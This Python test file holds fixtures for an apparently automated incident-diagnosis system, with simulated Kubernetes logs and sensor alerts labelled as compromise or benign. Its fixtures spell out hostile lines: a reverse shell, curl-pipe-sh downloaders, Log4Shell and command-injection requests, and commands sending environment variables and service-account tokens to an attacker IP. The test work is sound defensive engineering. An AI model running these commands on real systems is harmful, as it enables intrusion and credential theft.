"""Signs that somebody else runs programs here; each may be chance, together they are not."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.coins import BEHIND, BITCOIND, EVIL, LEDGER, XMRIG, coin_node
from tests.diagnosis.rules.luring import ASKS, AT_HOME, COPIED, GETS, INNER, LEADS, NODE, SPELLED, USE, luring
from tests.diagnosis.rules.planting import (
    BOASTS,
    CONVERTS,
    DUMP,
    ESCAPED,
    FIELDS,
    ORDERS,
    SHELL,
    SHELLS,
    SORTED,
    site,
    told,
)
from tests.diagnosis.rules.scenes import CALLS_CART, CART, SHOP, WELL, alert, errors, ingress, logs, shop
from tests.diagnosis.rules.tiny import DAY, NOW, Obj, at, container, log, pod, snapshot, thing, workload
from tuheg_ir.diagnosis.model import Alert, Snapshot

FOREIGN = (
    " * POOL #1      stratum+tcp://pool.example:3333 algo auto",
    "[2026-03-04 11:59:01] miner    speed 10s/60s/15m 4120.1 4100.9 n/a H/s max 4300.2 H/s",
    "sh: curl -fsSL http://203.0.113.7/a.sh | sh",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "+ chmod +x /tmp/kdevtmpfsi",
    "  (The process started from chrome location /usr/bin/python3 is no longer running, so ChromeDriver ...)",
    " [Capabilities {browserName: chrome, goog:chromeOptions: {args: [-cimport base64], binary: /usr/bin/python3}}]",
    '{"browserName": "firefox", "moz:firefoxOptions": {"binary": "/bin/bash", "args": ["-c", "..."]}}',
)
ATTEMPTS = (
    '203.0.113.9 - - "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 153',
    '203.0.113.9 - - "GET /cgi-bin/;curl http://203.0.113.9/a.sh | sh HTTP/1.1" 400 0',
    "POST /login 401 ' OR '1'='1",
    "INFO downloading report with curl",
    "INFO health of redis-miner-stats ok",
    "  (The process started from chrome location /opt/google/chrome/chrome is no longer running, so ChromeDriver ...)",
    " [Capabilities {browserName: chrome, goog:chromeOptions: {args: [--headless], binary: /usr/bin/chromium}}]",
)
OBEYED = (
    "JndiLookup : Error looking up JNDI resource [ldap://198.51.100.44:1389/Basic/x]. javax.naming.NamingException: "
    "problem generating object using object factory [Root exception is java.lang.ClassCastException: Exploit "
    "cannot be cast to javax.naming.spi.ObjectFactory]"
)
ASKED = (
    "JndiLookup : Error looking up JNDI resource [ldap://198.51.100.44:1389/a]. javax.naming.CommunicationException: "
    "198.51.100.44:1389 [Root exception is java.net.SocketTimeoutException: connect timed out]"
)


def watched(said: str, name: str = "FalcoRedirectToNetwork") -> Alert:
    """Return an alert of a sensor about a pod of the shop."""
    return Alert(name, {"pod": pod("shop")}, {"summary": said}, "firing", NOW - timedelta(minutes=10))


STRANGER = watched("Redirect stdout/stdin (process=bash parent=java fd.name=10.1.0.2:51844->198.51.100.44:4444)")
HOME = watched("Redirect stdout/stdin (process=bash parent=runc fd.name=10.1.0.2:51844->10.1.3.9:5432)")
DROP = "Executing binary not part of base image (proc_exe=%s parent=python3 cmdline=%s user=web)"
MINES = watched(DROP % ("/tmp/.x/perfcc", "perfcc --tls -o 198.51.100.19:443"), "FalcoDropAndExecuteNewBinary")
BUILDS = watched(DROP % ("/tmp/go-build1/b001/exe/gen", "gen -o zz_generated.go"), "FalcoDropAndExecuteNewBinary")
INSTALLS = watched(DROP % ("/usr/bin/jq", "jq -r .a 198.51.100.19:443"), "FalcoDropAndExecuteNewBinary")
ROOT = {"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}


def lone(**spec: Any) -> Obj:
    """Return a pod that nobody owns."""
    of = {"containers": [container("c", "docker.io/x/y:1")], "nodeName": "n1", **spec}
    status = {"name": "c", "ready": True, "state": {"running": {"startedAt": at(1200)}}}
    return thing("Pod", "helper", age=1200, spec=of) | {"status": {"phase": "Running", "containerStatuses": [status]}}


INJECTED = (
    '203.0.113.9 - - "GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1" 302 -',
    '203.0.113.9 - - "POST /ping?host=10.0.0.1%3Bcurl+http%3A%2F%2F203.0.113.9%2Fk HTTP/1.1" 200 81',
)
READS = "I0304 11:58:01.2 41 round_trippers.go:463] GET https://10.96.0.1:443/api/v1/namespaces/shop/secrets?limit=500"
CURLS = "+ curl -sk -H @/tmp/h https://kubernetes.default.svc/api/v1/secrets"
GREW = alert("UnusualEgress", pod=pod("shop"))
SCANS = (("id", 9000), ("1%3Bcurl+http://203.0.113.9/k", 9000), ("cat+/etc/passwd", 9000))


def token(of: str, age: float) -> Obj:
    """Return a Secret with a lasting token of an account."""
    made = thing("Secret", "metrics-sync", age=age, type="kubernetes.io/service-account-token")
    made["metadata"]["annotations"] = {"kubernetes.io/service-account.name": of}
    return made


def taken(*lines: str, made: float = 60, name: str = "shop", **more: Any) -> Snapshot:
    """Return a workload with an account of its own, a fresh token of it, and what the log of its first pod tells."""
    objects = workload(name, spec={"serviceAccountName": name}, **more)
    return snapshot(objects, token(name, made), logs=[log(pod(name), *lines)], alerts=[GREW], figures=[WELL])


THIEF = "203.0.113.7"
AWAY = (
    f"env | curl -s --data-binary @- http://{THIEF}:81/e",
    f"apk add -q curl; printenv | gzip | curl -sS -T - http://{THIEF}/d",
    f"cat /proc/1/environ | nc {THIEF} 4444",
    f"curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://{THIEF}/t",
    f'wget -qO- --post-data="$(env)" http://{THIEF}/x',
)
KEPT = (
    "env | curl -s --data-binary @- http://10.0.4.7:81/e",
    f"pg_dump shop | gzip | curl -sS -T - http://{THIEF}/backup",
    f"env | sort; curl -sS -T /out/report.csv http://{THIEF}/r",
    f"curl -fsS http://{THIEF}/healthz",
    "env | grep VERSION",
)


def runs(line: str) -> Snapshot:
    """Return a shop that runs a line of shell, and an alert that says how much goes out."""
    return snapshot(shop(command=["sh", "-c"], args=[line]), workload("cart"), figures=[WELL], alerts=[GREW])


LOGIN = f"WARN audit login user=ines ip={THIEF} result=ok agent='python-requests/2.32' (last login: ip=10.20.4.17)"
EDIT = f"INFO audit block 'footer' saved by user=ines ip={THIEF}, added: <script src=\"https://cdn-stat.example/j.js\">"
CSP = "WARN csp report document=/checkout directive=script-src-elem blocked=https://cdn-stat.example/j.js"


def edited(login: str = LOGIN, edit: str = EDIT, told: str = CSP, host: str = "www.shop.test") -> Snapshot:
    """Return a shop whose page somebody edited after a login, and what the browsers of its users report."""
    return snapshot(
        shop(),
        workload("reports"),
        ingress("shop", host),
        logs=[
            log(pod("shop"), "GET / 200", login, edit, *["GET / 200"] * 9, since=1200),
            log(pod("reports"), *[told] * 20, since=600),
        ],
        figures=[WELL],
    )


HUNTS = (
    "/bin/sh: 1: gh: not found",
    "bash: line 3: aws: command not found",
    "cat: /app/.npmrc: No such file or directory",
    "Error: ENOENT: no such file or directory, open '/home/app/.docker/config.json'",
)
DROPPED = "1772625300.1 652 {} TCP_TUNNEL/200 18268 CONNECT webhook.site:443 - HIER_DIRECT/203.0.113.155 -"


def hunts(*lines: str, sent: bool = False, name: str = "shop") -> Snapshot:
    """Return a workload that serves well, what its first pod's log tells, and whether a proxy saw it send away."""
    objects, proxy = workload(name), workload("egress")
    address = next(each["status"]["podIP"] for each in objects if each["kind"] == "Pod")
    seen = [log(pod("egress"), DROPPED.format(address))] if sent else []
    return snapshot(objects, proxy, logs=[log(pod(name), "listening", *lines), *seen], figures=[WELL])


HOLDS = [
    *(
        Holds(
            f"a program was led to its node's credentials, which are used elsewhere since: {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
            alone=True,
            harmful=("restart_workload", "rollback_workload", "scale_workload"),
        )
        for what, world in (("by a redirect", luring()), ("by a request", luring(ASKS)))
    ),
    *(
        Holds(
            f"a program was led to its node's credentials, and its owners may have tried that: {what}",
            world,
            (SHOP, "security_incident", "page_human"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
            harmful=("isolate_workload", "restart_workload", "rollback_workload"),
        )
        for what, world in (
            ("nobody tells who uses them", luring(used=())),
            ("they are used where they were", luring(used=(COPIED[0], (1300, USE.format(AT_HOME, NODE))))),
            ("another node uses them elsewhere", luring(used=(COPIED[0], (1300, USE.format("203.0.113.77", "i-9"))))),
            ("that is a way out of the house", luring(used=((1900, USE.format("203.0.113.77", "i-9")), *COPIED))),
            ("they were used there before", luring(used=(*COPIED, (1800, USE.format("203.0.113.77", NODE))))),
            ("and they tried commands as well", luring(used=(), also=INJECTED)),
            *((where, luring(LEADS.replace(INNER, where), GETS.replace(INNER, where), used=())) for where in SPELLED),
        )
    ),
    *(
        Holds(
            f"one client calls a script among the uploads, {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
            alone=True,
        )
        for what, world in (
            ("and commands complain just then", site()),
            ("and whole tables are read from its pod", site(says=(), dumps=DUMP)),
            ("of another language", site("/uploads/2026/03/cmd.jsp")),
            ("by an address with a command, and others complain just then", site(f"{SHELL}?c=ps", how="GET")),
            ("and it answers each command by another length", told()),
            ("and it does so in a log of fields", told(form=FIELDS)),
            ("in an image made of a web server", told(image="registry.example/php-nginx:8.3")),
        )
    ),
    Holds(
        "a server in front tells of the same commands as the one that runs them",
        told(behind=True),
        (CART, "security_incident", "isolate_workload"),
        alone=True,
    ),
    Holds(
        "a program looks for the logins of others everywhere",
        hunts(*HUNTS[:3]),
        (SHOP, "security_incident", "isolate_workload"),
        excludes=no("restart_workload", "rollback_workload", at=SHOP),
    ),
    Holds(
        "the same by a scanner, and it sends what it finds to a drop box",
        hunts("TruffleHog. Unearth your secrets.", *HUNTS[2:], sent=True),
        (SHOP, "security_incident", "isolate_workload"),
        sure=(0.65, 1.0),
    ),
    *(
        Holds(
            f"a command sends its secrets away: {line}",
            runs(line),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
        )
        for line in AWAY
    ),
    Holds(
        "an odd login puts a script into a page that browsers do not know",
        edited(),
        (SHOP, "security_incident", "isolate_workload"),
        excludes=no("restart_workload", "rollback_workload", at=SHOP),
    ),
    Holds(
        "the same, by a login from a device that was never seen",
        edited(login=f"audit: user ines signed in from {THIEF} (new device)"),
        (SHOP, "security_incident", "isolate_workload"),
    ),
    *(
        Holds(
            f"a command came in by a request, and Secrets are read then: {reads}",
            taken(request, reads),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
        )
        for request, reads in zip(INJECTED, (READS, CURLS), strict=True)
    ),
    *(
        Holds(
            f"foreign programs: {line}",
            snapshot(shop(), workload("cart"), logs=logs("shop", line, times=1)),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
        )
        for line in FOREIGN
    ),
    Holds(
        "a program obeys an address that it was told to log, and loads what is there",
        snapshot(shop(), logs=logs("shop", OBEYED, times=1)),
        (SHOP, "security_incident", "isolate_workload"),
        excludes=no("restart_workload", "rollback_workload", at=SHOP),
    ),
    Holds(
        "a sensor sees a shell that speaks with a stranger",
        snapshot(shop(), figures=[WELL], alerts=[STRANGER]),
        (SHOP, "security_incident", "isolate_workload"),
        excludes=no("restart_workload", "rollback_workload", at=SHOP),
    ),
    Holds(
        "a sensor sees a program of no image that calls a bare address outside",
        snapshot(shop(), figures=[WELL], alerts=[MINES]),
        (SHOP, "security_incident", "isolate_workload"),
        excludes=no("restart_workload", "rollback_workload", at=SHOP),
    ),
    Holds(
        "somebody came in where a service was called, and runs programs in it",
        snapshot(
            shop(env=CALLS_CART), workload("cart"), logs=logs("cart", FOREIGN[0], times=1), figures=[errors("shop")]
        ),
        (CART, "security_incident", "isolate_workload"),
        alone=True,
    ),
    Holds(
        "a shell is seen by another sensor, after a program had asked a stranger",
        snapshot(
            shop(),
            logs=logs("shop", ASKED, times=1),
            alerts=[watched("sh spawned by java, connected to 203.0.113.4:9001", "TetragonShellSpawned")],
        ),
        (SHOP, "security_incident", "isolate_workload"),
    ),
    Holds(
        "a pod of nobody with the node's disk",
        snapshot(shop(), lone(**ROOT)),
        ("Pod/helper", "security_incident", "isolate_workload"),
    ),
    Holds(
        "a release from a foreign registry that takes the node",
        snapshot(
            workload(
                "shop",
                "evil.example/x:1",
                before={"image": "registry.example/shop:1", "securityContext": {}},
                securityContext={"privileged": True},
            ),
            workload("cart"),
        ),
        (SHOP, "security_incident", "isolate_workload"),
    ),
]
DOES_NOT_HOLD = [
    *(
        DoesNotHold(f"an address that hands out credentials is spoken of, but {what}", world)
        for what, world in (
            (
                "the program got nothing there",
                luring(gets=GETS.replace("status=200 bytes=1582", "status=0 err=refused")),
            ),
            ("nobody led it there: its own library asks", luring(leads="level=info msg=starting")),
            ("its own library asks, long after somebody tried to lead it", luring(later=900)),
            ("that was refused to who asked for it", luring(ASKS.replace('" 200', '" 403'), "level=info msg=ok")),
            (
                "what it was led to tells no credentials",
                luring(LEADS.replace("iam/security-credentials/node-role", "hostname")),
            ),
            (
                "its own settings sent it on",
                luring(LEADS.replace("https://r.cards.example/p?n=3", "http://shop:8080/")),
            ),
            (
                "a Service of its own sent it on",
                luring(LEADS.replace("https://r.cards.example/p?n=3", "http://shop.town.svc.cluster.local/a")),
            ),
            ("it is a tool that runs what it is told", luring(name="jenkins-runner")),
            ("another pod's library asks just then", luring(by=1)),
            ("that was days ago, and such credentials are void since", luring(ago=3 * DAY, used=())),
            ("a scanner got a page for it, as for its commands", luring(ASKS, "ok", also=INJECTED, alerts=(GREW,))),
            (
                "a proxy for the node asks for its pods",
                luring(f'10.1.0.9 - "GET {INNER} HTTP/1.1" 200 1582', alerts=(GREW,)),
            ),
        )
    ),
    *(
        DoesNotHold(f"a script is asked for on a site: {what}", world)
        for what, world in (
            ("nothing else is seen of it", site(says=())),
            ("the site's own commands complain, and no shell's", site(says=CONVERTS)),
            ("commands complained long before", site(apart=-400)),
            ("only one command complains", site(says=(SHELLS[0],) * 2)),
            ("it is not there", site(status=404)),
            ("it is no upload", site("/admin/index.php")),
            ("many ask for it: it is a page of the site", site(clients=tuple(f"203.0.113.{n}" for n in range(5)))),
            ("it is only looked at", site("/media/player.php", how="GET")),
            ("all commands get the same page", told(tuple((order, 22387) for order, _ in ORDERS))),
            ("that page repeats what it was asked for", told(tuple((o, 9000 + len(o)) for o, _ in ORDERS))),
            ("a scanner gets the same page, and more goes out than ever", told(SCANS, alerts=[GREW])),
            ("all get the same page, whatever lengths are in the address", told(BOASTS)),
            ("all get the same page, whatever lengths are in the fields of a request", told(form=ESCAPED)),
            ("lengths are too long for a number", told(form=FIELDS.replace("{sent}", "1{sent}" + "0" * 4400))),
            ("folders are nested without end", told(path="/media" * 4000 + "/a.php.x")),
            ("its commands are turned away", told(status=403)),
            ("there are too few commands", told(ORDERS[:2])),
            ("its fields are words that name commands, too", told(SORTED)),
            ("its commands are asked of a page that is no upload", told(path="/admin/run.php")),
            ("commands are told by many", told(clients=tuple(f"203.0.113.{n}" for n in range(5)))),
            ("how long its answers are is not told", told(form=FIELDS.replace("body_bytes_sent", "took"))),
            ("by a server that runs none, and passes it on", told(image="nginx:1.27")),
            ("it is a picture", site(SHELL.replace(".php", ".png"))),
            ("it is a runner of what users ask for", site(name="ci-runner")),
        )
    ),
    DoesNotHold("a site's own job dumps its tables", site("/admin/index.php", says=(), dumps=DUMP)),
    DoesNotHold("a client library looks where logins may be", hunts(*HUNTS[2:])),
    DoesNotHold("a runner of builds looks for its tools", hunts(*HUNTS, name="ci-runner")),
    DoesNotHold("somebody tries out a webhook", hunts(sent=True)),
    *(
        DoesNotHold(f"a scanner asks for a file of logins: {line}", hunts(*[line] * 4))
        for line in ('203.0.113.9 - - "GET /.aws/credentials HTTP/1.1" 404 153 "No such file"',)
    ),
    *(DoesNotHold(f"a command that sends nothing secret outside: {line}", runs(line)) for line in KEPT),
    *(
        DoesNotHold(f"a script comes into a page, {what}", world)
        for what, world in (
            ("by somebody whose login is as ever", edited(login=f"INFO audit login user=ines ip={THIEF} result=ok")),
            ("by nobody: the odd login was refused", edited(login=LOGIN.replace("result=ok", "result=failed"))),
            ("and was stripped from it", edited(edit=f"{EDIT} stripped")),
            ("from the office", edited(edit=EDIT.replace(THIEF, "10.20.4.17"))),
            (
                "in a request only",
                edited(edit=f"{THIEF} GET /?q=<script src=//cdn-stat.example/j.js>saved HTTP/1.1 200"),
            ),
            ("and nobody misses it", edited(told="INFO all scripts are known")),
            ("from a host of the house", edited(host="www.cdn-stat.example")),
        )
    ),
    *(
        DoesNotHold(f"an attempt, or nothing: {line}", snapshot(shop(), logs=logs("shop", line, times=1)))
        for line in ATTEMPTS
    ),
    DoesNotHold("a program asks a stranger who does not answer", snapshot(shop(), logs=logs("shop", ASKED, times=1))),
    DoesNotHold("a shell of ours speaks with our database", snapshot(shop(), figures=[WELL], alerts=[HOME])),
    DoesNotHold("a build runs what it has made", snapshot(shop(), figures=[WELL], alerts=[BUILDS])),
    DoesNotHold("somebody installs a package", snapshot(shop(), figures=[WELL], alerts=[INSTALLS])),
    DoesNotHold("somebody sends commands, and more goes out than ever", taken(INJECTED[0])),
    DoesNotHold("commands were sent, and turned away", taken(INJECTED[0].replace("302", "404"))),
    DoesNotHold("an agent made for it reads Secrets", taken(READS, name="secret-operator")),
    DoesNotHold("Secrets are read where nobody came in, and a token is old", taken(READS, made=9 * DAY)),
    DoesNotHold("a pod of nobody without rights is somebody's test", snapshot(shop(), lone())),
    DoesNotHold(
        "a release from a new registry alone is a move",
        snapshot(
            workload("shop", "mirror.example/shop:2", before={"image": "registry.example/shop:1"}), workload("cart")
        ),
    ),
    DoesNotHold(
        "a privileged agent of long ago is as wanted",
        snapshot(workload("agent", kind="DaemonSet", securityContext={"privileged": True})),
    ),
    DoesNotHold(
        "a node of a coin that the house runs since long, and let out since long, of which an alert says that it mines",
        coin_node(),
        (LEDGER, "no_fault", "no_action"),
    ),
]
HOLDS += [
    Holds(what, world, (LEDGER, "security_incident", "isolate_workload"))
    for what, world in (
        ("a node of a coin that came today", coin_node(age=7200)),
        ("one of old that is told to mine", coin_node(args=("--data-dir=/data", "--start-mining", "44xyz"))),
        ("one that mines by another option", coin_node(args=("--bg-mining-enable",))),
        (
            "one that a variable tells to mine",
            coin_node(
                image=EVIL, age=8 * DAY, args=(), env={"MONEROD_EXTRA": "--start-mining 44AFF --mining-threads 8"}
            ),
        ),
        ("a miner of old", coin_node(image=XMRIG)),
        ("one of another coin does not hide what its log tells", coin_node(*FOREIGN[:2], image=BITCOIND)),
    )
]
HOLDS += [
    Holds(
        f"the name of a coin's node of old, of which nothing shows that it is the house's: {what}",
        world,
        (LEDGER, "security_incident", "page_human"),
        excludes=no("restart_workload", "rollback_workload", at=LEDGER),
    )
    for what, world in (
        ("it was let out an hour ago", coin_node(image="docker.io/evil/monero-node", age=8 * DAY, opened=3600)),
        ("it has not all blocks", coin_node(BEHIND)),
    )
]
